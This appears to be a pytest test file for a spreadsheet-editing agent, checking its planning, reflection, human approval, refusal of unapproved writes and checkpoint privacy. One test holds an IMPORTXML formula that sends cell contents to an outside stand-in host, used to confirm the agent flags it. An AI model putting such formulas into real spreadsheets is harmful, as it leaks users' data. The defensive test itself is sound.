"""Whole runs on a file: the real graph, the real GigaChat and OpenAI clients, a scripted model on loopback."""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from protocol_server import ProtocolServer
from scenario import (
    HEADER,
    OPENINGS,
    OVERWRITING,
    PIVOT,
    RATIO,
    REVENUE,
    REVENUE_OF,
    STEPS,
    TASK,
    Person,
    agent,
    cells,
    clears,
    describes,
    good_run,
    keeps,
    plans,
    says,
    sums_up,
    with_a_colleague,
    workbook,
)

from sheets_agent import SheetsAgent
from sheets_agent.errors import UnusableAnswer, UsageError
from sheets_agent.feedback.person import Decision
from sheets_agent.settings import load
from sheets_agent.state.done import Status


@pytest.fixture
def sales(tmp_path: Path) -> Path:
    return workbook(tmp_path / "sales.xlsx")


@pytest.fixture(params=["gigachat:GigaChat-2-Max", "openai:gpt-test"])
def model(request: pytest.FixtureRequest) -> tuple[str, ProtocolServer]:
    return request.param, request.getfixturevalue(f"{request.param.partition(':')[0]}_server")


@pytest.fixture
def scripted(openai_server: ProtocolServer) -> ProtocolServer:
    return openai_server


def test_the_main_job_through_the_real_clients(model: tuple[str, ProtocolServer], sales: Path) -> None:
    spec, server = model
    server.script(*good_run())
    before = sales.read_bytes()
    result = SheetsAgent(load(model=spec)).run(str(sales), TASK)

    assert result.status is Status.DONE
    assert result.summary == "Готово: выручка, сводная и диаграмма."
    assert server.left == 0
    assert server.refusals == []
    assert sales.read_bytes() == before
    assert result.files == (str(sales.with_name("sales.agent.xlsx")),)
    pivot = cells(result.files[0], "Отчёт")
    shown = {pivot[f"A{row}"]: pivot[f"B{row}"] for row in range(2, 5)}
    assert {region: shown[region] for region in REVENUE_OF} == REVENUE_OF
    formulas = openpyxl.load_workbook(result.files[0])
    assert formulas["Продажи"]["E13"].value == "=C13*D13"
    assert len(formulas["Отчёт"]._charts) == 1
    assert result.usage.api_writes == 1
    assert result.usage.roles["planner"].input_tokens > 0
    assert result.description is not None
    assert result.description.sheets[0].regions[0].columns[3].meaning == "Цена за штуку в рублях."


def test_the_plan_comes_back_to_the_executor_as_its_own_tool_calls(scripted: ProtocolServer, sales: Path) -> None:
    scripted.script(*good_run())
    agent().run(str(sales), TASK)
    messages = scripted.chats[-1].body["messages"]
    called = [call["function"]["name"] for message in messages for call in message.get("tool_calls") or ()]
    assert called == [step["action"] for step in STEPS]
    assert sum(message["role"] == "tool" for message in messages) == len(STEPS)


def test_a_dry_run_shows_the_difference_and_writes_nothing(scripted: ProtocolServer, sales: Path) -> None:
    scripted.script(describes(), plans(*STEPS))
    result = agent().run(str(sales), TASK, dry_run=True)
    assert result.status is Status.DRY_RUN
    assert result.usage.api_writes == 0
    assert result.files == ()
    assert [path.name for path in sales.parent.iterdir()] == ["sales.xlsx"]
    change = next(change for change in result.diff.cells if change.cell == "E2:E13")
    assert (change.before, change.after, change.result, change.count) == ("", "=C2*D2", "40; 100; 180; 280 … 1800", 12)


def test_all_reflectors_look_when_told_to_and_the_formula_reflector_mends_a_formula(
    scripted: ProtocolServer, sales: Path
) -> None:
    wrong = {**REVENUE, "options": ["formula==SUMM(C2*D2)"]}
    scripted.script(
        describes(),
        plans(HEADER, wrong),
        *keeps("action", "cell"),
        says("formula", json={"comment": "SUMM нет.", "verdict": "revise", "steps": [HEADER, REVENUE]}),
        *keeps("general"),
        sums_up(),
    )
    result = agent(reflect="always").run(str(sales), "Добавь столбец выручки")
    assert result.status is Status.DONE
    (critique,) = (found for found in result.critiques if found.reflector == "formula")
    assert critique.changed == (1,)
    assert {fact.kind for fact in critique.facts} >= {"unknown_function", "error_value"}
    assert any("SUMM" in str(request.body) and "SUM" in str(request.body) for request in scripted.chats)
    assert result.facts == ()


def test_a_mistake_is_mended_by_the_one_reflector_the_facts_call_for(scripted: ProtocolServer, sales: Path) -> None:
    wrong = {**REVENUE, "options": ["formula==SUMM(C2*D2)"]}
    mended = says("formula", json={"comment": "SUMM нет.", "verdict": "revise", "steps": [HEADER, REVENUE]})
    scripted.script(describes(), plans(HEADER, wrong), mended, sums_up())
    result = agent(reflect="auto").run(str(sales), "Добавь столбец выручки")
    assert result.status is Status.DONE
    assert [critique.reflector for critique in result.critiques] == ["formula"]
    assert cells(result.files[0], "Продажи")["E2"] == 40


def test_a_clean_plan_costs_three_calls(scripted: ProtocolServer, sales: Path) -> None:
    scripted.script(*good_run())
    result = agent(reflect="auto").run(str(sales), TASK)
    assert result.status is Status.DONE
    assert {role: usage.calls for role, usage in result.usage.roles.items()} == {
        "retriever": 1,
        "planner": 1,
        "executor": 1,
    }


def test_after_a_plan_that_fails_alternatives_are_drawn_and_chosen_by_what_they_do(
    scripted: ProtocolServer, sales: Path
) -> None:
    wrong = {**REVENUE, "options": ["formula==FOO(C2)"]}
    scripted.script(
        describes(),
        plans(HEADER, wrong),
        plans(HEADER, wrong),
        plans(HEADER, REVENUE),
        plans(HEADER, REVENUE),
        sums_up(),
    )
    result = agent(max_rounds=1).run(str(sales), TASK)
    assert result.status is Status.DONE
    assert result.usage.roles["planner"].calls == 4
    assert cells(result.files[0], "Продажи")["E2"] == 40


def test_a_specialised_reflector_cannot_change_what_is_not_its_own(scripted: ProtocolServer, sales: Path) -> None:
    elsewhere = {**REVENUE, "target": "'Продажи'!A2:A13"}
    scripted.script(
        describes(),
        plans(HEADER, REVENUE),
        *keeps("action", "cell"),
        says("formula", json={"comment": "Лучше в A.", "verdict": "revise", "steps": [HEADER, elsewhere]}),
        *keeps("general"),
        sums_up(),
    )
    result = agent(reflect="always").run(str(sales), TASK)
    (critique,) = (found for found in result.critiques if found.reflector == "formula")
    assert critique.dropped
    assert cells(result.files[0], "Продажи")["A2"] == "Север"


@pytest.mark.parametrize("dry_run", [False, True])
def test_a_plan_whose_trial_keeps_failing_is_made_again_and_then_given_up_unwritten(
    scripted: ProtocolServer, sales: Path, dry_run: bool
) -> None:
    wrong = {**REVENUE, "options": ["formula==FOO(C2)"]}
    rounds = [plans(HEADER, wrong)] * 3
    scripted.script(describes(), *rounds)
    result = agent(planner="cot", max_rounds=2).run(str(sales), TASK, dry_run=dry_run)
    assert result.status is Status.INCOMPLETE
    assert "FOO" in result.summary
    assert result.usage.api_writes == 0
    assert result.files == ()
    replanned = [request.text for request in scripted.chats if re.search(OPENINGS["planner"], request.text)]
    assert "FOO" not in replanned[0]
    assert "The step “Repeat the formula =FOO(C2) over" in replanned[1]
    assert "no function FOO" in replanned[1]


def test_the_executor_reads_cells_and_calls_further_tools(model: tuple[str, ProtocolServer], sales: Path) -> None:
    spec, server = model
    server.script(
        describes(),
        plans(HEADER, REVENUE),
        says("executor", calls=[("read_range", {"source": "'Продажи'!E1:E3"})]),
        says("executor", calls=[("format_cells", {"target": "'Продажи'!E1", "style": ["bold"]})]),
        sums_up("Оформлено."),
    )
    result = SheetsAgent(load(model=spec)).run(str(sales), "Добавь столбец выручки")
    assert server.refusals == []
    read = next(call for call in result.tool_calls if call.name == "read_range")
    assert '"40"' in read.result
    assert openpyxl.load_workbook(result.files[0])["Продажи"]["E1"].font.bold
    assert result.summary == "Оформлено."


def test_a_large_read_is_cut_and_says_so(scripted: ProtocolServer, sales: Path) -> None:
    scripted.script(
        describes(),
        plans(HEADER),
        says("executor", calls=[("read_range", {"source": "'Продажи'"})]),
        sums_up(),
    )
    result = agent().run(str(sales), TASK)
    read = json.loads(next(call.result for call in result.tool_calls if call.name == "read_range"))
    assert read["range"] == "'Продажи'!A1:Z76"
    assert read["not_read"].startswith("rows 77 to 1000")
    assert len(read["rows"]) == 13


def test_a_tool_call_that_would_overwrite_unapproved_cells_is_refused(scripted: ProtocolServer, sales: Path) -> None:
    scripted.script(
        describes(),
        plans(HEADER, REVENUE),
        says("executor", calls=[("write_cell", {"target": "'Продажи'!A1", "value": "Область"})]),
        says("executor", calls=[("write_cell", {"target": "'Нет'!A1", "value": "x"})]),
        sums_up(),
    )
    result = agent().run(str(sales), TASK)
    refused = [call for call in result.tool_calls if not call.success]
    assert "Not approved" in refused[0].result
    assert "no sheet" in refused[1].result
    assert cells(result.files[0], "Продажи")["A1"] == "Регион"


def test_an_endless_loop_of_calls_is_stopped(scripted: ProtocolServer, sales: Path) -> None:
    loop = says("executor", calls=[("read_range", {"source": "'Продажи'!A1:A2"})])
    scripted.script(describes(), plans(HEADER, REVENUE), *[loop] * 20)
    result = agent(max_tool_calls=8).run(str(sales), TASK)
    assert "stopped" in result.summary
    assert scripted.left > 10


def test_errors_that_show_after_writing_are_corrected(scripted: ProtocolServer, sales: Path) -> None:
    """The executor's own call brings no error in the trial of its own, but a later edit of a source does."""
    mended = {**RATIO, "options": ["formula==IFERROR(D2/C2,0)"]}
    scripted.script(
        describes(),
        plans(RATIO),
        says("executor", text="Готово."),
        says("corrector", json={"thoughts": "Деление на ноль.", "steps": [mended]}),
        sums_up("Исправлено."),
    )
    result = with_a_colleague(sales, clears("'Продажи'!C5"))
    assert result.status is Status.DONE
    (problem,) = result.problems
    assert (problem.address, problem.error, problem.fixed) == ("'Продажи'!F5", "#DIV/0!", True)
    assert cells(result.files[0], "Продажи")["F5"] == 0


WORDED_OTHERWISE = {"why": "То же", "action": "write_table", "target": "'Продажи'!E1", "values": [["Выручка"]]}


def test_samples_are_voted_on_by_what_they_do_without_a_model(scripted: ProtocolServer, sales: Path) -> None:
    elsewhere = {**HEADER, "target": "'Продажи'!G1"}
    scripted.script(describes(), plans(elsewhere), plans(HEADER), plans(WORDED_OTHERWISE), sums_up())
    result = agent(planner="self-consistency").run(str(sales), "Добавь заголовок")
    assert cells(result.files[0], "Продажи")["E1"] == "Выручка"
    assert "voter" not in result.usage.roles


def test_a_model_breaks_a_tie(scripted: ProtocolServer, sales: Path) -> None:
    elsewhere = {**HEADER, "target": "'Продажи'!G1"}
    choice = says("voter", json={"reason": "Рядом с таблицей.", "choice": 2})
    scripted.script(describes(), plans(elsewhere), plans(HEADER), choice, sums_up())
    agent(planner="self-consistency", search={"samples": 2}).run(str(sales), "Добавь заголовок")
    ballot = next(request.text for request in scripted.chats if re.search(OPENINGS["voter"], request.text))
    assert "Plan 2" in ballot
    assert "Plan 3" not in ballot


def test_reflectors_can_be_switched_off(scripted: ProtocolServer, sales: Path) -> None:
    scripted.script(describes(), plans(HEADER, REVENUE), *keeps("formula"), sums_up())
    result = agent(reflect="always", reflectors=("formula",)).run(str(sales), TASK)
    assert [critique.reflector for critique in result.critiques] == ["formula"]


class TestAskingAPerson:
    def test_overwriting_is_shown_and_approved(self, scripted: ProtocolServer, sales: Path) -> None:
        scripted.script(describes(), plans(OVERWRITING), sums_up())
        person = Person(Decision(verdict="approve"))
        result = agent(person).run(str(sales), TASK)
        (review,) = person.reviews
        assert "Регион" in review.reasons[0]
        assert review.diff.cells[0].before == "Регион"
        assert cells(result.files[0], "Продажи")["A1"] == "Выручка"

    def test_a_rejected_plan_writes_nothing(self, scripted: ProtocolServer, sales: Path) -> None:
        scripted.script(describes(), plans(OVERWRITING))
        result = agent(Person(Decision(verdict="reject"))).run(str(sales), TASK)
        assert result.status is Status.REJECTED
        assert (result.usage.api_writes, result.files) == (0, ())

    def test_a_reason_for_rejecting_goes_to_the_planner(self, scripted: ProtocolServer, sales: Path) -> None:
        scripted.script(
            describes(),
            plans(OVERWRITING),
            plans(HEADER),
            sums_up(),
        )
        result = agent(Person(Decision(verdict="reject", comment="Не трогай A1"))).run(str(sales), TASK)
        assert result.status is Status.DONE
        assert cells(result.files[0], "Продажи")["A1"] == "Регион"
        assert "Не трогай A1" in [r.text for r in scripted.chats if re.search(OPENINGS["planner"], r.text)][1]

    def test_an_edited_plan_is_tried_anew_and_written(self, scripted: ProtocolServer, sales: Path) -> None:
        from sheets_agent.planners.draft import read_plan

        scripted.script(describes(), plans(OVERWRITING), sums_up())
        edited = Decision(verdict="edit", plan=read_plan({"steps": [HEADER]}))
        result = agent(Person(edited)).run(str(sales), TASK)
        written = cells(result.files[0], "Продажи")
        assert (written["A1"], written["E1"]) == ("Регион", "Выручка")

    def test_without_a_person_the_run_pauses_and_resumes(self, scripted: ProtocolServer, sales: Path) -> None:
        scripted.script(describes("Что такое Цена?"), plans(OVERWRITING), sums_up())
        worker = agent()
        asked = worker.run(str(sales), TASK)
        assert asked.status is Status.PAUSED
        assert [question.text for question in asked.questions] == ["Что такое Цена?"]
        answer = {"decisions": [{"type": "respond", "message": "Цена без НДС"}]}
        review = worker.resume(asked.run_id, answer)
        assert review.status is Status.PAUSED
        assert review.questions[0].options == ("approve", "edit", "reject")
        assert "Цена без НДС" in next(r.text for r in scripted.chats if re.search(OPENINGS["planner"], r.text))
        assert review.usage.api_writes == 0
        done = worker.resume(asked.run_id, {"decisions": [{"type": "approve"}]})
        assert done.status is Status.DONE
        assert cells(done.files[0], "Продажи")["A1"] == "Выручка"
        with pytest.raises(UsageError, match="has ended"):
            worker.resume(asked.run_id, answer)

    def test_a_formula_that_reaches_outside_is_asked_about(self, scripted: ProtocolServer, sales: Path) -> None:
        leak = {**HEADER, "options": ['value==IMPORTXML("http://example.com/?"&A2,"//a")']}
        scripted.script(describes(), plans(leak))
        refused = agent(max_rounds=0).run(str(sales), TASK)
        assert refused.status is Status.INCOMPLETE
        assert "--allow-function IMPORTXML" in refused.summary
        scripted.script(describes(), plans(leak))
        person = Person(Decision(verdict="reject"))
        assert agent(person, allow_functions=["IMPORTXML"]).run(str(sales), TASK).status is Status.REJECTED
        assert "IMPORTXML reaches outside" in person.reviews[0].reasons[0]

    def test_a_paused_run_goes_on_in_another_process(self, scripted: ProtocolServer, sales: Path) -> None:
        scripted.script(describes(), plans(OVERWRITING), sums_up())
        paused = agent().run(str(sales), TASK)
        done = agent().resume(paused.run_id, {"decisions": [{"type": "approve"}]})  # another agent: nothing is shared
        assert done.status is Status.DONE
        assert cells(done.files[0], "Продажи")["A1"] == "Выручка"
        assert sum(bool(re.search(OPENINGS["planner"], request.text)) for request in scripted.chats) == 1

    def test_the_policies(self, scripted: ProtocolServer, sales: Path) -> None:
        scripted.script(describes(), plans(HEADER))
        assert agent(approve="always").run(str(sales), TASK).status is Status.PAUSED
        scripted.script(describes(), plans(OVERWRITING))
        unasked = agent(approve="never", max_rounds=0).run(str(sales), TASK)
        assert (unasked.status, unasked.files) == (Status.INCOMPLETE, ())
        scripted.script(describes(), plans(OVERWRITING), sums_up())
        assert agent(approve="never", only=["'Продажи'!A1"]).run(str(sales), TASK).status is Status.DONE


class TestModelsThatMisbehave:
    def test_an_unknown_action_goes_back_with_the_closest_names(self, scripted: ProtocolServer, sales: Path) -> None:
        unknown = {**HEADER, "action": "write_cells"}
        scripted.script(describes(), plans(unknown), plans(HEADER), sums_up())
        assert agent().run(str(sales), TASK).status is Status.DONE
        assert "write_cell" in str(scripted.chats[2].body["messages"][-1])

    @pytest.mark.parametrize(
        "broken",
        [
            {"text": "Конечно, сейчас сделаю!"},
            {"text": '{"thoughts": "обор'},
            {"json": {"thoughts": "x", "steps": [{"why": "x", "action": "fly_away"}]}},
            {"json": {"thoughts": "x", "steps": []}, "finish_reason": "length"},
        ],
        ids=["prose", "broken JSON", "unknown action", "cut off"],
    )
    def test_what_stays_unusable_ends_the_run_with_nothing_written(
        self, model: tuple[str, ProtocolServer], sales: Path, broken: dict[str, Any]
    ) -> None:
        spec, server = model
        server.script(describes(), *[says("planner", **broken)] * 9)
        before = shutil.copy(sales, sales.with_name("copy.xlsx"))
        with pytest.raises(UnusableAnswer):
            SheetsAgent(load(model=spec)).run(str(sales), TASK)
        assert sales.read_bytes() == Path(before).read_bytes()
        assert not sales.with_name("sales.agent.xlsx").exists()


def test_an_empty_task_is_refused(sales: Path) -> None:
    with pytest.raises(UsageError, match="empty"):
        agent().run(str(sales), "  ")


def test_an_empty_spreadsheet_is_a_normal_case(scripted: ProtocolServer, tmp_path: Path) -> None:
    empty = tmp_path / "empty.xlsx"
    openpyxl.Workbook().save(empty)
    table = {
        "why": "Таблица",
        "action": "write_table",
        "target": "Sheet!A1",
        "values": [["Месяц", "План"], ["Май", "5"]],
    }
    scripted.script(plans(table), sums_up())
    result = agent().run(str(empty), "Создай таблицу плана")
    assert cells(result.files[0], "Sheet") == {"A1": "Месяц", "B1": "План", "A2": "Май", "B2": 5}


def test_stream_gives_events_and_the_result_last(scripted: ProtocolServer, sales: Path) -> None:
    scripted.script(*good_run())
    seen = list(agent().stream(str(sales), TASK))
    stages = [event.stage for event in seen if type(event).__name__ == "StageEnded"]
    assert stages == [
        "retrieve", "clarify", "review_description", "plan", "reflect", "approve", "execute", "verify", "review_result",
        "finish",
    ]  # fmt: skip
    assert seen[-1].status is Status.DONE


def test_plan_and_describe_write_nothing(scripted: ProtocolServer, sales: Path) -> None:
    scripted.script(describes(), plans(*STEPS))
    planned = agent().plan(str(sales), TASK)
    assert planned.plan is not None
    assert planned.plan.steps[3].action.kind == PIVOT["action"]
    scripted.script(describes())
    described = agent().describe(str(sales))
    assert described.sheets[0].regions[0].range == "'Продажи'!A1:D13"
    asked = len(scripted.chats)
    bare = agent().describe(str(sales), annotate=False)
    assert bare.sheets[0].regions[0].columns[3].header == "Цена"
    assert len(scripted.chats) == asked
    assert [path.name for path in sales.parent.iterdir()] == ["sales.xlsx"]


def test_a_plan_that_only_adds_a_sheet_is_saved(scripted: ProtocolServer, sales: Path) -> None:
    scripted.script(describes(), plans(STEPS[2]), sums_up())
    result = agent().run(str(sales), "Добавь лист")
    assert openpyxl.load_workbook(result.files[0]).sheetnames == ["Продажи", "Отчёт"]


def test_an_interruption_leaves_the_file_and_says_so(scripted: ProtocolServer, sales: Path) -> None:
    scripted.script(*good_run())
    told: list[Any] = []

    def impatient(event: Any) -> None:
        told.append(event)
        if type(event).__name__ == "ToolCalled":
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        SheetsAgent(load(model="openai:gpt-test"), on_event=impatient).run(str(sales), TASK)
    assert told[-1].text == "Interrupted: nothing was saved."
    assert [path.name for path in sales.parent.iterdir()] == ["sales.xlsx"]


def test_a_notebook_shows_the_tables_and_the_chart(scripted: ProtocolServer, sales: Path) -> None:
    scripted.script(*good_run())
    result = agent().run(str(sales), TASK)
    shown = result._repr_html_()
    assert "Выручка" in shown
    assert "data:image/png;base64," in shown
    (picture,) = result.save_pictures(sales.parent)
    assert picture.read_bytes().startswith(b"\x89PNG")


def test_checkpoints_hold_our_own_models_only_and_nothing_of_the_cells_at_the_end(
    scripted: ProtocolServer, sales: Path, caplog: pytest.LogCaptureFixture
) -> None:
    import sqlite3

    from sheets_agent.checkpoints import data_dir

    scripted.script(describes(), plans(OVERWRITING, REVENUE), sums_up())
    worker = agent()
    paused = worker.run(str(sales), TASK)
    store = data_dir() / "runs.sqlite"
    assert store.stat().st_mode & 0o777 == 0o600
    assert worker.resume(paused.run_id, {"decisions": [{"type": "approve"}]}).status is Status.DONE
    assert [record.message for record in caplog.records if "serialize" in record.message] == []
    connection = sqlite3.connect(store)
    kept = b"".join(bytes(row[0]) for row in connection.execute("select checkpoint from checkpoints"))
    connection.close()
    assert "Сводная" not in kept.decode(errors="ignore")
    assert "Запад" not in kept.decode(errors="ignore"), "only the memory of the thread stays, not what cells hold"


@pytest.mark.parametrize("how", ["run", "plan"])
def test_the_tab_that_a_link_leads_to_is_told_to_the_planner(openai_server: ProtocolServer, how: str) -> None:
    from sheets_agent.emulator.server import serve
    from sheets_agent.emulator.service import Emulator

    emulator = Emulator()
    book = emulator.create("Live", "en_US", "Etc/GMT")
    with serve(emulator, 0) as server:
        openai_server.script(describes(), plans(HEADER | {"target": "Sheet1!A1"}), sums_up())
        url = f"https://docs.google.com/spreadsheets/d/{book.spreadsheet_id}/edit#gid=0"
        result = getattr(agent(api_endpoint=server.url), how)(url, TASK)
    assert result.status is (Status.DONE if how == "run" else Status.DRY_RUN)
    planner = next(request.text for request in openai_server.chats if re.search(OPENINGS["planner"], request.text))
    assert "the person's link leads to this sheet" in planner


def test_a_file_may_be_named_by_a_path(scripted: ProtocolServer, sales: Path) -> None:
    scripted.script(*good_run())
    result = agent().run(sales, TASK, output=sales.parent / "new.xlsx")
    assert result.files == (str(sales.parent / "new.xlsx"),)


def test_what_changed_while_a_person_thought_is_shown_before_it_is_written(openai_server: ProtocolServer) -> None:
    from sheets_agent.emulator.server import serve
    from sheets_agent.emulator.service import Emulator
    from sheets_agent.emulator.transport import EmulatorHttp
    from sheets_agent.sheets.client import SheetsClient

    emulator = Emulator()
    book = emulator.create("Live", "en_US", "Etc/GMT").spreadsheet_id
    colleague = SheetsClient(EmulatorHttp(emulator))
    colleague.update_values(book, "Sheet1!A1", [["Регион"], ["Север"]])

    class Slow(Person):
        def review(self, review: Any) -> Decision:
            if not self.reviews:
                colleague.update_values(book, "Sheet1!A1", [["Область"]])
            return super().review(review)

    title = {**HEADER, "target": "Sheet1!A1"}
    openai_server.script(describes(), plans(title), sums_up())
    person = Slow(Decision(verdict="approve"), Decision(verdict="approve"))
    with serve(emulator, 0) as server:
        result = agent(person, api_endpoint=server.url).run(book, TASK)
    assert [review.diff.cells[0].before for review in person.reviews] == ["Регион", "Область"]
    assert result.status is Status.DONE
    assert colleague.values(book, "Sheet1!A1") == [["Выручка"]]
